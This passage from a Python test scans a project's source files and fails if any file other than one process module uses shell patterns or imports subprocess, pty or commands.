        text = path.read_text(encoding="utf-8")
        # _proc.py alone may exec an argument list: `envgen run` replaces itself with the user's
        # command (os.execvpe, no shell); everything else stays banned there too.
        allowed = {"os.exec"} if rel == "envgen/infra/proc.py" else set()
        problems += [f"{rel}: {p}" for p in _SHELL_PATTERNS if p in text and p not in allowed]
        if rel == "envgen/infra/proc.py":
            assert "os.execvpe(argv[0], list(argv)" in text or "os.exec" not in text
            continue
        for node in ast.walk(ast.parse(text)):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            else:
                continue
            problems += [
                f"{rel}:{node.lineno}: imports {n}"
                for n in names
                if n.split(".")[0] in {"subprocess", "pty", "commands"}
            ]
    assert problems == []
